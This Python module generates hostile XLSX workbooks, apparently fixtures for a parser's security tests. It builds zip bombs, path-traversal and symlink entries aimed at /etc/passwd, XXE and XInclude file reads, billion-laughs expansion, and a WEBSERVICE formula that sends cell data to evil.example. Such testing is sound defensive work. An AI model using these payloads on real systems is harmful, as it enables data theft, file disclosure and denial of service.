# SPDX-License-Identifier: EUPL-1.2
"""The workbooks (XLSX) that hostile.py tries: made here, because most are too large or too wrong to be kept.

A workbook is a list of parts, (name, bytes or an iterable of bytes), which `zipped` packs. What is wrong in the zip itself is
set afterwards, in the bytes.
"""
import io, random, re, struct, zipfile, zlib

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "xl/worksheets/sheet1.xml"
PARTS = ["_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/sharedStrings.xml", SHEET]
HEAD = ["Samenwerking", "Partner"] + [f"C{n}" for n in range(1, 7)]
ROW = ["groen-beekdal", "Gemeente Loosbeek", 1, 2, 3, 4, 5, 1]


def escaped(text):
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text).replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;")


def letters(column):
    return letters(column // 26 - 1) + chr(65 + column % 26) if column >= 26 else chr(65 + column)


def cell(row, column, value):
    place = f"{letters(column)}{row}"
    if isinstance(value, int):
        return f'<c r="{place}"><v>{value}</v></c>'
    return f'<c r="{place}" t="inlineStr"><is><t xml:space="preserve">{escaped(value)}</t></is></c>'


def rows(values, first=1):
    return "".join(f'<row r="{number}">' + "".join(cell(number, column, value) for column, value in enumerate(line)) + "</row>"
                   for number, line in enumerate(values, first))


ORDINARY = rows([HEAD] + [ROW] * 12)


def document(root, content):
    start = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<{root} xmlns="{MAIN}" xmlns:r="{LINKS}">'
    end = f"</{root}>"
    if isinstance(content, str):
        return (start + content + end).encode()
    return [start.encode(), *content, end.encode()] if isinstance(content, list) else stream(start, content, end)


def stream(start, content, end):
    yield start.encode()
    yield from content
    yield end.encode()


def relationships(links):
    items = "".join(f'<Relationship Id="{id}" Type="{LINKS}/{kind}" Target="{target}"/>' for id, kind, target in links)
    return f'<Relationships xmlns="{PACKAGE}">{items}</Relationships>'.encode()


def worksheet(data, before="", after=""):
    if isinstance(data, str):
        return document("worksheet", before + "<sheetData>" + data + "</sheetData>" + after)
    return document("worksheet", stream("<sheetData>", data, "</sheetData>"))


def workbook(sheets, strings="", more=(), states=None, names=None):
    """The parts of a workbook with these sheets, each the bytes of a part."""
    listed, targets, parts = "", [], []
    for number, sheet in enumerate(sheets, 1):
        state = f' state="{states[number - 1]}"' if states and states[number - 1] else ""
        name = names[number - 1] if names else f"Blad{number}"
        listed += f'<sheet name="{escaped(name)}" sheetId="{number}"{state} r:id="s{number}"/>'
        targets.append((f"s{number}", "worksheet", f"worksheets/sheet{number}.xml"))
        parts.append((f"xl/worksheets/sheet{number}.xml", sheet))
    targets += [("strings", "sharedStrings", "sharedStrings.xml"), ("styles", "styles", "styles.xml")]
    parts += [("xl/sharedStrings.xml", document("sst", strings or "<si><t>x</t></si>"))]
    first = [
        ("[Content_Types].xml", b"<Types/>"), ("_rels/.rels", relationships([("r", "officeDocument", "xl/workbook.xml")])),
        ("xl/workbook.xml", document("workbook", f"<sheets>{listed}</sheets>")), ("xl/_rels/workbook.xml.rels", relationships(targets)),
        ("xl/styles.xml", document("styleSheet", '<cellXfs><xf numFmtId="0"/></cellXfs>')),
    ]
    made = dict(first + parts)
    made.update(dict(more))
    return list(made.items())


def zipped(parts):
    """A zip of the parts; one that is an iterable is packed piece by piece."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
        for name, content in parts:
            description = zipfile.ZipInfo(name)
            description.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(description, "w") as entry:
                for piece in [content] if isinstance(content, bytes) else content:
                    entry.write(piece)
    return file.getvalue()


def packed(name, content):
    """One deflated entry: its name, packed bytes, size and checksum."""
    press = zlib.compressobj(6, zlib.DEFLATED, -15)
    data, size, checksum = b"", 0, 0
    pieces = []
    for piece in [content] if isinstance(content, bytes) else content:
        pieces.append(press.compress(piece))
        size, checksum = size + len(piece), zlib.crc32(piece, checksum)
    data = b"".join(pieces) + press.flush()
    return {"name": name.encode(), "data": data, "size": size, "crc": checksum, "method": 8, "flags": 0}


def by_hand(entries, count=None):
    """A zip of entries as `packed` makes them, in which each may say something else: local (its own header), offset, size."""
    pieces, directory, place = [], [], 0
    for entry in entries:
        local = {**entry, **entry.get("local", {})}
        offset = entry.get("offset", place)
        head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, local["flags"], local["method"], 0, 0, local["crc"], len(local["data"]), local["size"], len(local["name"]), 0)
        pieces += [head + local["name"] + entry["data"]]
        place += len(pieces[-1])
        directory.append(struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, entry["flags"], entry["method"], 0, 0, entry["crc"], len(entry["data"]), entry["size"],
            len(entry["name"]), 0, 0, 0, 0, 0, offset) + entry["name"])
    number = len(entries) if count is None else count
    list_of_all = b"".join(directory)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, number & 0xFFFF, number & 0xFFFF, len(list_of_all), place, 0)
    return b"".join(pieces) + list_of_all + end


def entries(parts):
    return [packed(name, content) for name, content in parts]


def changed(parts, name, **values):
    made = entries(parts)
    next(entry for entry in made if entry["name"] == name.encode()).update(values)
    return by_hand(made)


def repeated(piece, megabytes):
    """A piece of XML, again and again."""
    block = piece * max(1, (1 << 16) // len(piece))
    for _ in range((megabytes << 20) // len(block)):
        yield block


def scattered(megabytes, seed=1):
    """Comments that pack about ten times smaller, so that no ratio gives them away."""
    chance = random.Random(seed)
    words = [b"%06x" % chance.getrandbits(24) for _ in range(64)]
    for _ in range(megabytes):
        line = b" ".join(chance.choice(words) for _ in range(1_000))
        yield b"<!--" + (line + b" ") * ((1 << 20) // (len(line) + 1)) + b"-->"


def numbered(count, columns, value="<v>3</v>", kind=""):
    """Rows of cells, many at a time."""
    places = [letters(column) for column in range(columns)]
    block = []
    for row in range(1, count + 1):
        block.append(f'<row r="{row}">' + "".join(f'<c r="{place}{row}"{kind}>{value}</c>' for place in places) + "</row>")
        if len(block) == 500 or row == count:
            yield "".join(block).encode()
            block = []


def many_tables():
    """256 sheets that each name one table 1,900 times."""
    table = f'<table xmlns="{MAIN}" name="t" displayName="t" ref="A1:H13"/>'.encode()
    links = relationships([(f"t{n}", "table", "../tables/table1.xml") for n in range(1_900)])
    more = [(f"xl/worksheets/_rels/sheet{n}.xml.rels", links) for n in range(1, 251)] + [("xl/tables/table1.xml", table)]
    return zipped(workbook([worksheet(ORDINARY)] * 250, more=more))


def laughs(levels=12, width=10):
    entities = '<!ENTITY e0 "ha">' + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * width}">' for n in range(1, levels))
    return f"<!DOCTYPE x [{entities}]><x>&e{levels - 1};</x>".encode()


def cases(payloads):
    """Names and the bytes of workbooks, made when they are asked for."""
    plain = lambda rows=ORDINARY, **more: zipped(workbook([worksheet(rows, **more)]))
    usual = workbook([worksheet(ORDINARY)])
    with_part = lambda name, content: zipped(workbook([worksheet(ORDINARY)], more=[(name, content)]))

    # Too large, in every way that there is.
    yield "250 MB of spaces in a sheet", lambda: zipped(workbook([worksheet(repeated(b" ", 250))]))
    yield "250 MB of spaces among the texts", lambda: with_part("xl/sharedStrings.xml", document("sst", repeated(b" ", 250)))
    yield "100 MB of spaces in 64 parts of 1.5 MB", lambda: zipped(workbook([worksheet(repeated(b" ", 1)) for _ in range(100)]))
    yield "300 MB of comments that pack ten times smaller", lambda: zipped(workbook([worksheet(scattered(100, n)) for n in range(3)]))
    yield "200 MB of empty rows", lambda: zipped(workbook([worksheet(stream("", repeated(b"<row/>", 200), ORDINARY))]))
    yield "200 MB of empty cells in a row", lambda: plain_stream(repeated(b"<c/>", 200))
    yield "100 MB of elements of others", lambda: zipped(workbook([document("worksheet", repeated(b'<x xmlns="urn:x" a="1"/>', 100))]))
    yield "100 MB of elements that are no cells", lambda: zipped(workbook([worksheet(stream("", repeated(b'<x a="1"/>', 100), ORDINARY))]))
    yield "cells that share a text of 32,000 characters", lambda: zipped(workbook(
        [worksheet(numbered(20_000, 200, "<v>0</v>", ' t="s"'))], strings=f"<si><t>{'y' * 32_000}</t></si>"))
    yield "60 MB of empty texts", lambda: with_part("xl/sharedStrings.xml", document("sst", repeated(b"<si/>", 60)))
    yield "60 MB of styles", lambda: with_part("xl/styles.xml", document("styleSheet", stream("<cellXfs>", repeated(b'<xf numFmtId="14"/>', 60), "</cellXfs>")))
    yield "60 MB of number formats", lambda: with_part(
        "xl/styles.xml", document("styleSheet", stream("<numFmts>", (f'<numFmt numFmtId="{n}" formatCode="yy{n}"/>'.encode() for n in range(1_200_000)), "</numFmts>")))
    yield "60 MB of sheets", lambda: with_part(
        "xl/workbook.xml", document("workbook", stream("<sheets>", (f'<sheet name="b{n}" sheetId="{n}" r:id="s1"/>'.encode() for n in range(1_000_000)), "</sheets>")))
    yield "60 MB of links", lambda: with_part("xl/_rels/workbook.xml.rels", stream(f'<Relationships xmlns="{PACKAGE}">', (
        f'<Relationship Id="x{n}" Type="{LINKS}/worksheet" Target="x{n}"/>'.encode() for n in range(500_000)), "</Relationships>"))
    yield "20 MB of attributes of a row", lambda: plain_stream((f'<row x{n}="">'[:-1].encode() if n == 0 else f' x{n}=""'.encode() for n in range(1_500_000)), b"></row>")
    yield "a value of an attribute of 20 MB", lambda: plain_stream([b'<row a="', *repeated(b"a", 20), b'"/>'])
    yield "a name of an element of 20 MB", lambda: plain_stream([b"<", *repeated(b"a", 20), b"/>"])
    yield "a number of 20 MB", lambda: plain_stream([b'<row r="1"><c r="A1"><v>', *repeated(b"1", 20), b"</v></c></row>"])
    yield "a formula of 20 MB", lambda: plain_stream([b'<row r="1"><c r="A1"><f>', *repeated(b"1+", 20), b"</f><v>1</v></c></row>"])
    yield "64 sheets of 1,000 merged blocks", lambda: zipped(workbook([worksheet(ORDINARY, after="<mergeCells>" + "".join(
        f'<mergeCell ref="A{n}:XFD{n}"/>' for n in range(14, 1_014)) + "</mergeCells>")] * 64))
    yield "19,999 merged blocks of a million rows", lambda: plain(after="<mergeCells>" + "".join(
        f'<mergeCell ref="{letters(n)}20:{letters(n)}1048576"/>' for n in range(19_999) if n < 16_384) + "</mergeCells>")
    yield "65,000 entries", lambda: by_hand(entries(usual) + [packed(f"x{n}", b"x") for n in range(65_000)])
    yield "1,990 entries with long names", lambda: by_hand(entries(usual) + [packed(f"{n}/" + "a/" * 2_500 + "a", b"x") for n in range(1_990)])
    yield "257 sheets", lambda: zipped(workbook([worksheet(ORDINARY)] * 257))
    yield "256 sheets", lambda: zipped(workbook([worksheet(ORDINARY)] * 256))
    yield "250 sheets that name a table 1,900 times", many_tables
    yield "20,000 columns", lambda: plain(f'<row r="1">{"".join(cell(1, n, "k") for n in range(16_384))}{"<c><v>1</v></c>" * 3_616}</row>')
    yield "1,000 columns", lambda: plain(rows([[f"k{n}" for n in range(1_000)], [1] * 1_000]))
    yield "100,001 rows", lambda: zipped(workbook([worksheet(numbered(100_002, 1))]))
    yield "a billion rows by its dimension", lambda: plain(before='<dimension ref="A1:XFD999999999"/>')
    yield "a cell in row 1,048,576", lambda: plain(ORDINARY + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>')
    yield "a cell in row 1,048,577", lambda: plain(ORDINARY + '<row r="1048577"><c r="A1048577"><v>1</v></c></row>')
    yield "a row of 20 digits", lambda: plain(ORDINARY + '<row r="99999999999999999999"/>')
    yield "a cell of 40,000 characters", lambda: plain(rows([HEAD, ["groen-beekdal", "x" * 40_000, 1, 2, 3, 4, 5, 1]]))
    yield "a text of 40,000 characters", lambda: zipped(workbook([worksheet(ORDINARY)], strings=f"<si><t>{'y' * 40_000}</t></si>"))
    yield "a text of 20,000 pieces", lambda: zipped(workbook([worksheet(ORDINARY)], strings="<si>" + "<r><t>y</t></r>" * 20_000 + "</si>"))
    yield "elements 60,000 deep", lambda: plain("<row>" * 60_000 + "</row>" * 60_000)
    yield "elements of others 60,000 deep", lambda: plain(after='<x xmlns="urn:x">' + "<x>" * 60_000 + "</x>" * 60_000 + "</x>")

    # What says one thing here and another thing there.
    bad_place = dict(entries(usual)[0], name=b"../../../../tmp/balans-evil")
    for name in ["../../evil.xml", "/etc/evil", "xl/..\\..\\evil", "C:\\evil", "xl/\x1b[31m.xml", "xl/\u202e.xml", "xl//../../x"]:
        yield f"an entry called {name!r}", lambda name=name: by_hand(entries(usual) + [dict(packed("x", b"x"), name=name.encode())])
    yield "an entry out of the folder", lambda: by_hand(entries(usual) + [bad_place])
    yield "a link out of the file", lambda: with_part("xl/_rels/workbook.xml.rels", relationships([("s1", "worksheet", "../../../../../etc/passwd")]))
    yield "a link to the network", lambda: with_part(
        "xl/_rels/workbook.xml.rels", relationships([("s1", "worksheet", "https://evil.example/x")]).replace(b"/>", b' TargetMode="External"/>'))
    yield "an entry that is a link of the file system", lambda: linked(usual)
    yield "encrypted", lambda: changed(usual, SHEET, flags=1)
    yield "strongly encrypted", lambda: changed(usual, SHEET, flags=0x41)
    yield "encrypted in its own header only", lambda: changed(usual, SHEET, local={"flags": 1})
    yield "entries that share bytes", lambda: changed(usual, SHEET, offset=0)
    yield "entries within each other", nested
    yield "an entry at the end of the file", lambda: changed(usual, SHEET, offset=0xFFFFFFF0)
    yield "two sheets of one name in the zip", lambda: by_hand(entries(usual) + [packed(SHEET, worksheet(rows([HEAD, ROW])))])
    yield "two sheets of one name but for case", lambda: by_hand(entries(usual) + [packed("XL/worksheets/SHEET1.xml", worksheet(rows([HEAD, ROW])))])
    yield "a size that is too small", lambda: changed(usual, SHEET, size=10)
    yield "a size that is too large", lambda: changed(usual, SHEET, size=0x7FFFFFFF)
    yield "another size in its own header", lambda: changed(usual, SHEET, local={"size": 10})
    yield "a wrong checksum", lambda: changed(usual, SHEET, crc=1)
    yield "another method", lambda: changed(usual, SHEET, method=12)
    yield "no entry at all", lambda: by_hand([])
    yield "65,535 entries by its list", lambda: by_hand(entries(usual), count=65_535)
    yield "a zip in front of a zip", lambda: zipped(workbook([worksheet(rows([HEAD, ROW]))])) + zipped(usual)
    yield "a zip with 64 KB behind it", lambda: zipped(usual) + b"x" * 65_536
    for index in ["-1", "1", "99999999999999999999", "1.5", "0x0", "1e3", "", " 0", "+0", "\u0661"]:
        yield f"shared text number {index!r}", lambda index=index: plain(ORDINARY.replace(
            '<c r="A2" t="inlineStr"><is><t xml:space="preserve">groen-beekdal</t></is></c>', f'<c r="A2" t="s"><v>{index}</v></c>'))
    yield "a cell twice", lambda: plain(rows([HEAD, ROW]).replace("</row>", '<c r="A1"><v>1</v></c></row>'))
    yield "a row twice", lambda: plain(rows([HEAD, ROW]) + rows([ROW], first=2))
    yield "cells in another row", lambda: plain('<row r="1"><c r="A2"><v>1</v></c></row>')
    for number in ["1e999999999", "-1e-999999999", "NaN", "INF", "9" * 300, "0." + "0" * 300 + "1", "--1", "1_000", "0x7f"]:
        yield f"the number {number[:14]}", lambda number=number: plain(ORDINARY.replace("<v>3</v>", f"<v>{number}</v>"))
    for days in ["-1", "2958466", "99999999999999999999", "1e18", "0.9999999999999999"]:
        yield f"day {days}", lambda days=days: zipped(workbook(
            [worksheet(ORDINARY.replace('<c r="D2">', '<c r="D2" s="0">').replace("<v>2</v>", f"<v>{days}</v>"))],
            more=[("xl/styles.xml", document("styleSheet", '<cellXfs><xf numFmtId="14"/></cellXfs>'))]))

    # XML that does more than it says.
    for part in PARTS:
        yield f"a billion laughs in {part}", lambda part=part: with_part(part, laughs())
        yield f"a file of the system in {part}", lambda part=part: with_part(
            part, b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
        yield f"UTF-16 in {part}", lambda part=part: with_part(part, dict(usual)[part].decode().replace("UTF-8", "UTF-16").encode("utf-16"))
        yield f"UTF-7 in {part}", lambda part=part: with_part(part, b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-')
        yield f"NUL in {part}", lambda part=part: with_part(part, dict(usual)[part] + b"\0<x/>")
        yield f"cut off in {part}", lambda part=part: with_part(part, dict(usual)[part][:-20])
    yield "parameter entities", lambda: with_part(SHEET, b'<!DOCTYPE x [<!ENTITY % a "%b;%b;"><!ENTITY % b "%a;%a;">%a;]><x/>')
    yield "a million references", lambda: plain(rows([HEAD]) + '<row r="2"><c r="A2" t="inlineStr"><is><t>' + "&#60;" * 1_000_000 + "</t></is></c></row>")
    yield "XInclude", lambda: plain(after='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')
    yield "a style sheet by instruction", lambda: with_part(SHEET, b'<?xml-stylesheet href="https://evil.example/x.xsl"?>' + dict(usual)[SHEET].split(b"\n", 1)[1])

    # What a user does not see, and what must stay text.
    hidden = worksheet(rows([HEAD] + [["groen-beekdal", "KANARIE van het verborgen blad", 5, 5, 5, 5, 5, 5]] * 12))
    for state in ["hidden", "veryHidden", "VERYHIDDEN", "geheim"]:
        yield f"a sheet that is {state}", lambda state=state: zipped(workbook([worksheet(ORDINARY), hidden], states=["", state]))
    yield "only hidden sheets", lambda: zipped(workbook([hidden], states=["hidden"]))
    yield "formulas", lambda: plain(ORDINARY.replace("<v>4</v>", '<f>WEBSERVICE("https://evil.example/"&amp;A1)</f><v>4</v>').replace("<v>5</v>", "<f>1+1</f>"))
    yield "errors in cells", lambda: plain(re.sub(r'<c r="(F\d+)"><v>4</v>', r'<c r="\1" t="e"><v>#REF!</v>', ORDINARY))
    for payload in payloads:
        shown = payload if len(payload) < 30 else payload[:27] + "…"
        yield f"payload {shown!r}", lambda payload=payload: zipped(workbook(
            [worksheet(rows([HEAD + [payload + " vraag"]] + [["groen-beekdal", "P " + payload, 1, 2, 3, 4, 5, 1, payload]] * 12))],
            names=[(payload[:20] or "x").replace("@", "a")]))


def large_cases():
    """Workbooks that are right and as large as the limits let through."""
    yield "100,000 rows of 35 columns", lambda: zipped(workbook([worksheet(numbered(100_000, 35))]))
    yield "cells that share a text of 60 characters", lambda: zipped(workbook(
        [worksheet(numbered(20_000, 200, "<v>0</v>", ' t="s"'))], strings=f"<si><t>{'y' * 60}</t></si>"))


def plain_stream(content, *more):
    """A sheet of whatever these pieces are."""
    return zipped(workbook([document("worksheet", stream("<sheetData>", chained(content, *more), "</sheetData>"))]))


def chained(content, *more):
    yield from content
    yield from more


def nested():
    """The bytes of one entry hold a second one, and the list names both."""
    inner = entries([(SHEET, worksheet(rows([HEAD, ROW])))])[0]
    head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, inner["crc"], len(inner["data"]), inner["size"], len(inner["name"]), 0)
    body = head + inner["name"] + inner["data"]
    made = [entry for entry in entries(workbook([worksheet(ORDINARY)])) if entry["name"] != SHEET.encode()]
    place = sum(30 + len(entry["name"]) + len(entry["data"]) for entry in made)
    outer = {"name": b"xl/media/x", "data": body, "size": len(body), "crc": zlib.crc32(body), "method": 0, "flags": 0}
    return by_hand(made + [outer, dict(inner, offset=place + 30 + len(b"xl/media/x"))])


def linked(parts):
    """An entry that says to be a symbolic link."""
    file = io.BytesIO(zipped(parts))
    with zipfile.ZipFile(file, "a") as archive:
        entry = zipfile.ZipInfo("xl/media/link")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return file.getvalue()
